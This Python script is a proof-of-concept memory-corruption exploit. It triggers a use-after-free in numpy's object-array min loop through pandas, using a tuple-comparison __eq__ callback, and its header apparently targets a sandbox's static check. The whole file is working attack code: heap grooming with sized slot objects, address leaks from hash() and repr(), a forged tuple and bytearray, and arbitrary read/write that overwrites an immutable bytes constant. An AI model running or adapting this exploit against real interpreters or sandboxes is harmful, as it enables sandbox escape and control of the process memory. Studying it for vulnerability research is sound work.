# source: numpy 1.24 numpy/core/src/umath/funcs.inc.src npy_ObjectMax/npy_ObjectMin and PyUFunc_OO_O loop (pandas 1.5.3 nanops.nanmin -> ndarray.min: borrowed in1/in2, result INCREF'd after the comparison); CPython 3.11 tuplerichcompare (item __eq__ called on borrowed tuples); sandexec README, "The static check", 'Open: numpy's loops over object arrays'
# family: use-after-free in numpy object-array ufunc loops through tuple ordering that calls the script's __eq__ -> freed operand returned as the result -> fake object -> arbitrary read/write
# goal: pd.Series(arr, copy=False).min() compares two tuples; X.__eq__ frees the second operand and refills its block with a fake tuple; the loop returns the dangling operand, whose item 0 is a fake bytearray over the whole address space; reads type names/object headers by address and overwrites an immutable bytes constant
import numpy as np

M64 = (1 << 64) - 1


def addr_of_type(t):
    # default hash of a type (and of None in 3.11) is its address rotated by 4 bits
    h = hash(t) & M64
    return ((h << 4) | (h >> 60)) & M64


def addr_from_repr(o):
    return int(repr(o).split(" at ")[1][:-1], 16)


def q(v):
    return (v & M64).to_bytes(8, "little")


class S:
    # 26 slots: 16 (gc) + 16 (head) + 208 = 240 bytes, the size class of a 25-tuple
    __slots__ = ("a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7", "a8", "a9",
                 "b0", "b1", "b2", "b3", "b4", "b5", "b6", "b7", "b8", "b9",
                 "c0", "c1", "c2", "c3", "c4", "c5")


T_TUPLE = addr_of_type(tuple)
T_BYTEARRAY = addr_of_type(bytearray)
P_NONE = addr_of_type(None)

# 1. a buffer whose address we know: an object of the size class shows its address,
#    is freed, and a bytearray's buffer takes its block (pymalloc reuses it first)
fake_ba = q(1 << 40) + q(T_BYTEARRAY) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(1)
P1 = b"\x00" * 16 + fake_ba + b"\x00" * (239 - 16 - len(fake_ba))
keep = []
s = S()
A1 = addr_from_repr(s)
del s
keep.append(bytearray(P1))
FAKE_BA = A1          # object pointer = block + 16 = the repr address

# 2. the fake tuple that replaces the freed one
# 239 bytes: the buffer is 240 with bytearray's NUL, the last item's top byte (0, a low address)
P0 = b"\x00" * 16 + q(1 << 40) + q(T_TUPLE) + q(25) + q(FAKE_BA) + q(P_NONE) * 23 + q(P_NONE)[:7]

G = {"n": 0}
spray = [None] * 64


class X:
    def __init__(self, k):
        self.k = k

    def __eq__(self, other):
        if G["n"] == 0:
            G["n"] = 1
            arr[1] = 0                      # frees the tuple the loop holds as its second operand
            for i in range(64):
                spray[i] = bytearray(P0)    # its block now holds the fake tuple
        return True


xs = [X(i) for i in range(2)]
arr = np.empty(2, dtype=object)
arr[0] = (xs[0],) + (None,) * 25     # shorter (or longer): the comparison ends on the lengths
arr[1] = (xs[1],) + (None,) * 24
import pandas as pd
res = pd.Series(arr, copy=False).min()
mem = res[0]
print("result is a tuple at the freed block:", type(res).__name__, "item 0 is", type(mem).__name__, "at", hex(FAKE_BA))


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


def cstr(a):
    out = b""
    while mem[a] != 0:
        out += bytes([mem[a]])
        a += 1
    return out


# READ: tp_name of the tuple type, through its address
print("tuple type at", hex(T_TUPLE), "tp_name:", cstr(rd(T_TUPLE + 24)))
# READ: an object of the script's: its ob_type is class X
x = xs[1]
xtype = rd(addr_from_repr(x) + 8)
print("X instance at", hex(addr_from_repr(x)), "ob_type", hex(xtype), "tp_name:", cstr(rd(xtype + 24)))


# WRITE: a bytes constant of a function, immutable to Python
def secret():
    return b"immutable-constant"


code = rd(addr_from_repr(secret) + 48)
consts = rd(code + 24)
n = rd(consts + 16)
for i in range(n):
    c = rd(consts + 24 + 8 * i)
    if rd(c + 8) == addr_of_type(bytes):
        for j, ch in enumerate(b"OVERWRITTEN-bytes!"):
            mem[c + 32 + j] = ch
print("bytes constant now:", secret())
